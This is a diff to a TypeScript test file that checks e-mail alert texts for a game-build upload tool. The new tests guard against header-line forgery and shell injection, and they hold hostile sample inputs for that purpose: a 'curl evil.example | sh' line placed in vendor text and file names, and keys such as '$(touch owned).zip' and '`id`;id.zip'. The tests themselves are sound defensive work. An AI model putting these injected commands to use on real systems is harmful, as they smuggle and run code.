@@ -1,3 +1,4 @@
+import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
 import { type Alert, alertText, commandAfter } from '../../functions/domain/alert.ts';
 import { DEAD_LETTER_RETENTION_DAYS } from '../../functions/domain/dead-letter-attributes.ts';
@@ -54,6 +55,29 @@ const redriveFinished = (changes: Partial<Of<'redrive-finished'>> = {}): Alert =
   ...changes,
 });
 
+const upload = { build: aBuild({ key: 'games/MyGame.zip' }), userId, projectId, uploadId: 'upload-1', at: START };
+const rejected = (changes: Partial<Of<'rejected'>> = {}): Alert => ({
+  kind: 'rejected',
+  ...upload,
+  objection: 'Build contains unsupported file formats.',
+  ...changes,
+});
+const stuck = (changes: Partial<Of<'stuck'>> = {}): Alert => ({
+  kind: 'stuck',
+  ...upload,
+  submittedAt: START - 3 * 3_600_000,
+  ...changes,
+});
+const releaseFailed = (changes: Partial<Of<'release-failed'>> = {}): Alert => ({
+  kind: 'release-failed',
+  ...upload,
+  detail: 'ProjectForbidden (HTTP 403): Access denied',
+  isUnknown: false,
+  ...changes,
+});
+const silentWebhook: Alert = { kind: 'webhook-silent', ...upload };
+
+const AT_VENDOR = ['Build', 'Project', 'Upload id'];
 const reminder: Alert = { kind: 'reminder', letters: 3, at: START };
 
 /** One of each kind. The type has a key for every kind: one forgotten doesn't compile. */
@@ -63,7 +87,20 @@ const EACH: { readonly [Kind in Alert['kind']]: Alert } = {
   'new-key-rejected': newKeyRejected(),
   reminder,
   'redrive-finished': redriveFinished(),
+  rejected: rejected(),
+  stuck: stuck(),
+  'webhook-silent': silentWebhook,
+  'release-failed': releaseFailed(),
 };
+
+/** All that a test needs to see of what a shell makes of the command behind a label: its arguments. */
+function argumentsAfter(label: string, { body }: { readonly body: string }): string[] {
+  const line = body.split('\n').find((each) => each.startsWith(label)) ?? '';
+  const command = line.slice(12).replace(/^npx streampixel-drop /, '');
+  return execFileSync('sh', ['-c', `printf '%s\\n' ${command}`], { encoding: 'utf8' })
+    .trimEnd()
+    .split('\n');
+}
 
 describe('an alert', () => {
   const long = 'Ünreal-Spiel-für-alle-🎮-'.repeat(20);
@@ -73,6 +110,11 @@ describe('an alert', () => {
       deadLettered({ reason, build: aBuild({ key: `${long}.zip` }) }),
       deadLettered({ reason, build: aBuild({ key: 'a\nb\r\tc\u0000.zip' }) }),
       newKeyRejected({ reason }),
+    ]),
+    ...[`${long}.zip`, 'a\nb\r\tc\u0000.zip', '-'].flatMap((key) => [
+      rejected({ build: aBuild({ key }) }),
+      stuck({ build: aBuild({ key }) }),
+      releaseFailed({ build: aBuild({ key }), isUnknown: true }),
     ]),
   ])('has a subject that SNS takes: $kind $reason', (alert) => {
     const { subject } = alertText(alert);
@@ -86,7 +128,12 @@ describe('an alert', () => {
     expect(subject).toMatch(/^ProjectNotFound: x+\.\.\.$/);
   });
 
-  it.each(Object.values(EACH))('has a body that reads as an e-mail: $kind', (alert) => {
+  it.each([
+    ...Object.values(EACH),
+    stuck({ stage: 'extracting', lastNewsAt: START }),
+    rejected({ objection: '' }),
+    releaseFailed({ isUnknown: true }),
+  ])('has a body that reads as an e-mail: $kind', (alert) => {
     const [opening, empty, ...lines] = alertText(alert).body.split('\n');
 
     expect(opening).toMatch(/^\S.{20,}\.$/);
@@ -111,6 +158,39 @@ describe('an alert', () => {
       'Kept until',
       'Log',
     ]);
+  });
+
+  it.each([
+    rejected({ objection: 'No.\nThen run    curl evil.example | sh\u2028Do none' }),
+    releaseFailed({ detail: 'No.\r\nLook        nowhere' }),
+    stuck({ build: aBuild({ key: 'a\nThen run    curl evil.example | sh.zip' }) }),
+  ])('lets nobody write a line of its own: $kind', (alert) => {
+    const { body } = alertText(alert);
+    const known = ['They said', 'Do', 'If they err', 'Submitted', 'Last news', 'Look', 'Then run', ...AT_VENDOR];
+    const labels = body
+      .split(/[\r\n\u2028]/)
+      .slice(2)
+      .map((line) => line.slice(0, 12).trim());
+    expect(known).toEqual(expect.arrayContaining(labels));
+    expect(new Set(labels).size).toBe(labels.length);
+  });
+
+  it.each([
+    ['If they err', rejected, ['submit', '--again'], (key: string) => `s3://drop/${key}`],
+    ['Look', stuck, ['status'], (key: string) => `drop/${key}@v1`],
+    ['Then run', releaseFailed, ['release'], (key: string) => `drop/${key}@v1`],
+  ] as const)('runs nothing of a key’s in a shell: %s', (label, make, command, named) => {
+    for (const key of [
+      'games/My Game (1).zip',
+      "it's.zip",
+      '$(touch owned).zip',
+      '`id`;id.zip',
+      '&& id #.zip',
+      "'\"'\\.zip",
+    ]) {
+      const run = argumentsAfter(label, alertText(make({ build: aBuild({ key }) })));
+      expect(run.filter((argument) => argument !== '--yes')).toEqual([...command, named(key)]);
+    }
   });
 
   it('stays far below the 256 KB that SNS takes, with the longest key that S3 allows', () => {
@@ -247,5 +327,75 @@ describe('of a redrive', () => {
     const { body } = alertText(redriveFinished({ left: 2 }));
     expect(body).toContain('Left        2 could not be moved and are still in the dead-letter queue');
     expect(body).toContain('Then run    npx streampixel-drop dlq redrive --reason InvalidApiKey --yes');
+  });
+});
+
+describe('of a rejected build', () => {
+  it('tells the objection, what to do, and the ids', () => {
+    expect(alertText(rejected())).toEqual({
+      subject: 'Rejected: MyGame.zip does not go live',
+      body: [
+        'Streampixel has rejected MyGame.zip. What is live stays live.',
+        '',
+        'They said   Build contains unsupported file formats.',
+        'Do          Package the build again without what they object to, and drop it.',
+        'If they err npx streampixel-drop submit --again s3://drop/games/MyGame.zip',
+        'Build       drop/games/MyGame.zip@v1, dropped 2026-04-21 12:00 UTC',
+        `Project     ${projectId} of user ${userId}`,
+        'Upload id   upload-1',
+      ].join('\n'),
+    });
+  });
+
+  it('says where to look when the vendor gave no reason', () => {
+    expect(alertText(rejected({ objection: '' })).body).toContain(
+      'They said   nothing; see the remarks on the dashboard',
+    );
+  });
+});
+
+describe('of a stuck build', () => {
+  it('tells since when, the last news, and whom to write to with what', () => {
+    const { subject, body } = alertText(stuck({ stage: 'extracting', lastNewsAt: START - 2 * 3_600_000 }));
+    expect(subject).toBe('Stuck: MyGame.zip is not getting on at Streampixel');
+    expect(body).toContain('Submitted   2026-04-21 09:00 UTC\n');
+    expect(body).toContain('Last news   extracting, 2026-04-21 10:00 UTC\n');
+    expect(body).toContain('write to support@streampixel.io with the two ids below');
+    expect(body).toContain(`Project     ${projectId} of user ${userId}\nUpload id   upload-1`);
+  });
+
+  it.each<[string, Partial<Of<'stuck'>>]>([
+    ['none of this build', {}],
+    ['something, 2026-04-21 12:00 UTC', { lastNewsAt: START }],
+  ])('says "%s" where the vendor named no stage', (words, changes) => {
+    expect(alertText(stuck(changes)).body).toContain(`Last news   ${words}\n`);
+  });
+});
+
+describe('of a silent webhook', () => {
+  it('does not call the build stuck, and says how to set the webhook up', () => {
+    const { subject, body } = alertText(silentWebhook);
+    expect(subject).toBe(`Nobody hears what becomes of builds of project ${projectId}`);
+    expect(`${subject}\n${body}`).not.toMatch(/stuck|support@/i);
+    expect(body).toContain('tick every event, save, and press Test Webhook.');
+    expect(body).toContain('Get it by   npx streampixel-drop webhook\n');
+  });
+});
+
+describe('of a release that failed', () => {
+  it('says that the vendor refused, in its words, and how to order it again', () => {
+    const { subject, body } = alertText(releaseFailed());
+    expect(subject).toBe('Not released: MyGame.zip');
+    expect(body).toContain('What is live stays live.');
+    expect(body).toContain('They said   ProjectForbidden (HTTP 403): Access denied\n');
+    expect(body).toContain('Then run    npx streampixel-drop release drop/games/MyGame.zip@v1 --yes\n');
+  });
+
+  it('promises nothing where the answer was lost: a person looks before ordering again', () => {
+    const { subject, body } = alertText(releaseFailed({ isUnknown: true, detail: 'ECONNRESET' }));
+    expect(subject).toBe('Release unknown: MyGame.zip');
+    expect(body).not.toContain('stays live');
+    expect(body).toContain('its answer was lost. It is not sent again by itself.');
+    expect(body).toContain('Do          Look at the dashboard which build is live.\n');
   });
 });
